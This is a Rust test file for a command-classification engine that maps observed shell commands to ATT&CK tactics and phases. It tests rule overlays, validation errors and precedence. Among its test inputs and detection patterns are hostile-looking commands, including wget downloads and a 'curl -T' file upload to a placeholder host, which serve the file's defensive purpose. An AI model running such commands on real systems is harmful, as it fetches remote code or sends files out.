//! Operator overlays of the phase table (replace, extend, override by id)
//! and the validation errors that name the offending rule or key.

#[path = "phase_rules/table.rs"]
mod table;
use decnet_clusterd::phase::Phase::*;
use decnet_clusterd::phase_rules::{PhaseRules, PhaseRulesError};
use table::shipped;

#[test]
fn overlay_replace_makes_the_file_the_whole_table() {
    let text = format!(
        "replace = true\n{}",
        rule_toml(
            "site.beacon",
            "^beacon-check",
            "TA0011",
            "command_and_control"
        )
    );
    let t = shipped().overlay(&text).unwrap();
    assert_eq!(t.rules().len(), 1);
    assert_eq!(t.infer(&["uname -a"]), None);
    assert_eq!(
        t.infer(&["beacon-check now"]).unwrap().first.phase,
        CommandAndControl
    );
    // An empty replacement switches inference off.
    let off = shipped().overlay("replace = true\n").unwrap();
    assert!(off.rules().is_empty());
    assert_eq!(off.infer(&["uname -a"]), None);
}

#[test]
fn overlay_extends_with_new_rules_taking_precedence() {
    let base = shipped();
    // A site rule more specific than the shipped `uname` rule.
    let text = rule_toml(
        "site.uname-probe",
        r"^uname -a$",
        "TA0043",
        "reconnaissance",
    );
    let t = base.overlay(&text).unwrap();
    assert_eq!(t.rules().len(), base.rules().len() + 1);
    assert_eq!(&*t.rules()[0].id, "site.uname-probe");
    assert_eq!(t.infer(&["uname -a"]).unwrap().first.phase, Reconnaissance);
    assert_eq!(t.infer(&["uname -m"]).unwrap().first.phase, Discovery);
    assert_eq!(
        t.infer(&["wget http://h/x"]).unwrap().first.phase,
        CommandAndControl
    );
}

#[test]
fn overlay_overrides_a_rule_by_id_in_place() {
    let base = shipped();
    let at = base
        .rules()
        .iter()
        .position(|r| &*r.id == "command_and_control.wget")
        .unwrap();
    let text = rule_toml(
        "command_and_control.wget",
        r"^wget\s",
        "TA0002",
        "execution",
    );
    let t = base.overlay(&text).unwrap();
    assert_eq!(t.rules().len(), base.rules().len());
    assert_eq!(&*t.rules()[at].id, "command_and_control.wget");
    assert_eq!(t.rules()[at].phase, Execution);
    assert_eq!(
        t.infer(&["wget http://h/x"]).unwrap().first.phase,
        Execution
    );
    // `busybox wget` no longer matches the narrowed pattern: it falls to
    // the generic BusyBox rule.
    assert_eq!(
        &*t.infer(&["busybox wget http://h/x"]).unwrap().first.rule,
        "execution.busybox"
    );
}

// --- validation

fn err(text: &str) -> PhaseRulesError {
    PhaseRules::from_toml_str(text).expect_err("must be refused")
}

#[test]
fn validation_errors_name_the_rule() {
    let e = err(&rule_toml("r.one", "x", "TA0007", "discovry"));
    assert!(matches!(&e, PhaseRulesError::UnknownPhase { id, .. } if id == "r.one"));
    assert!(e.to_string().contains("r.one") && e.to_string().contains("discovry"));

    let e = err(&rule_toml("r.two", "x", "TA9999", "discovery"));
    assert!(matches!(&e, PhaseRulesError::UnknownTactic { id, .. } if id == "r.two"));

    let e = err(&rule_toml("r.three", "x", "TA0011", "discovery"));
    assert_eq!(
        e,
        PhaseRulesError::TacticPhaseMismatch {
            id: "r.three".into(),
            tactic: "TA0011".into(),
            maps_to: CommandAndControl,
            phase: Discovery,
        }
    );
    assert!(e
        .to_string()
        .contains("TA0011 maps to phase command_and_control, not discovery"));

    // A phase no tactic maps to cannot be given a tactic of its own.
    let e = err(&rule_toml("r.four", "x", "TA0007", "weaponization"));
    assert!(matches!(&e, PhaseRulesError::TacticPhaseMismatch { id, .. } if id == "r.four"));

    let e = err(&rule_toml(
        "r.five",
        "wget (",
        "TA0011",
        "command_and_control",
    ));
    assert!(matches!(&e, PhaseRulesError::BadPattern { id, .. } if id == "r.five"));
    // Look-around is not supported by the engine: refused, not ignored.
    let e = err(&rule_toml(
        "r.six",
        "wget(?!x)",
        "TA0011",
        "command_and_control",
    ));
    assert!(matches!(&e, PhaseRulesError::BadPattern { id, .. } if id == "r.six"));

    let e = err(&rule_toml("r.seven", "x*", "TA0007", "discovery"));
    assert_eq!(
        e,
        PhaseRulesError::MatchesEmpty {
            id: "r.seven".into()
        }
    );

    let twice = format!(
        "{}{}",
        rule_toml("r.dup", "a", "TA0007", "discovery"),
        rule_toml("r.dup", "b", "TA0007", "discovery")
    );
    assert_eq!(
        err(&twice),
        PhaseRulesError::DuplicateId { id: "r.dup".into() }
    );

    let e = err(&rule_toml("Bad Id", "a", "TA0007", "discovery"));
    assert!(matches!(e, PhaseRulesError::BadId { .. }));
    let e = err(&rule_toml("", "a", "TA0007", "discovery"));
    assert!(matches!(e, PhaseRulesError::BadId { .. }));

    let no_comment = rule_toml("r.eight", "a", "TA0007", "discovery").replace("test rule", " ");
    assert_eq!(
        err(&no_comment),
        PhaseRulesError::MissingComment {
            id: "r.eight".into()
        }
    );
}

#[test]
fn validation_errors_for_the_file_shape() {
    assert!(matches!(err("rule = 3"), PhaseRulesError::Toml(_)));
    assert!(matches!(
        err("[[rule]]\nid = \"a\"\n"),
        PhaseRulesError::Toml(_)
    ));
    let unknown_key = rule_toml("a", "a", "TA0007", "discovery") + "priority = 3\n";
    assert!(matches!(err(&unknown_key), PhaseRulesError::Toml(_)));
    assert!(matches!(err("replace = \"yes\""), PhaseRulesError::Toml(_)));
    assert!(matches!(err("\u{0}"), PhaseRulesError::Toml(_)));
    // Overlays are validated the same way, and a bad one leaves no table.
    let bad = rule_toml("site.x", "(", "TA0007", "discovery");
    assert!(matches!(
        shipped().overlay(&bad),
        Err(PhaseRulesError::BadPattern { id, .. }) if id == "site.x"
    ));
}

/// One rule as an operator would write it in an overlay file.
fn rule_toml(id: &str, pattern: &str, tactic: &str, phase: &str) -> String {
    format!(
        "[[rule]]\nid = {id:?}\npattern = {pattern:?}\ntactic = {tactic:?}\nphase = {phase:?}\ncomment = \"test rule\"\n"
    )
}

#[test]
fn precedence_is_table_order() {
    // `curl -T` matches both the upload rule and the generic curl rule.
    let rules = shipped();
    let cmd = "curl -T /tmp/x ftp://198.51.100.2/";
    let ids: Vec<&str> = rules.rules().iter().map(|r| &*r.id).collect();
    let up = ids
        .iter()
        .position(|i| *i == "exfiltration.curl-upload")
        .unwrap();
    let get = ids
        .iter()
        .position(|i| *i == "command_and_control.curl")
        .unwrap();
    assert!(up < get);
    assert_eq!(
        &*rules.classify(cmd).unwrap().id,
        "exfiltration.curl-upload"
    );
    // Put the generic rule first: now it wins.
    let generic_first = format!(
        "{}\n{}",
        rule_toml("a.curl", "curl", "TA0011", "command_and_control"),
        rule_toml("b.curl-up", "curl -T", "TA0010", "exfiltration")
    );
    let t = PhaseRules::from_toml_str(&generic_first).unwrap();
    assert_eq!(&*t.classify(cmd).unwrap().id, "a.curl");
}
